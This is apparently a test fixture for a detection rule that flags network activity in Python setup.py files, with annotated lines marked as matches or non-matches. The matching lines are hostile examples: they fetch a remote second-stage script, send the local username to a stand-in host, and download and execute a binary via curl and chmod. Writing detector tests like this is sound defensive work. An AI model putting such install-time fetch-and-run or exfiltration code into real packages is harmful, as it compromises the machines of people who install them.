"""Fixture for py-setup-module-network (a setup.py).

RULEID: urlopen of a remote script at import; requests.get; os.system curl; subprocess with wget.
OK: reading the README; subprocess git describe; setup() call.
"""

import os
import subprocess
import urllib.request

import requests
from setuptools import setup

# ruleid: py-setup-module-network
stage2 = urllib.request.urlopen("https://paste.example.org/raw/a1b2").read()
# ruleid: py-setup-module-network
requests.get("http://203.0.113.5/collect", params={"u": os.getlogin()})
# ruleid: py-setup-module-network
os.system("curl -fsSL http://203.0.113.5/x -o /tmp/x && chmod +x /tmp/x && /tmp/x")
# ruleid: py-setup-module-network
subprocess.call(["wget", "-q", "http://203.0.113.5/y"])

with open("README.md") as fh:
    # ok: py-setup-module-network
    long_description = fh.read()

# ok: py-setup-module-network
version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()

# ok: py-setup-module-network
setup(name="x", version=version, long_description=long_description)
